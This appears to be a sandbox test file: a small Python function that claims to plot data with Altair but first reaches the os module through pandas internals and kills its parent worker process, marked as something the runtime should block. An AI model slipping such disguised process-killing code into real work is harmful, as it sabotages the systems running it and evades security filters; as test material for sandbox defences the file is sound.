"""Kill the worker that forked us."""  # runtime: blocked
# ruff: noqa
import altair as alt
import pandas as pd


def plot(data: pd.DataFrame) -> alt.Chart:
    pd.io.common.os.kill(pd.io.common.os.getppid(), 9)
    return alt.Chart(data).mark_point().encode(x='x:Q', y='y:Q')
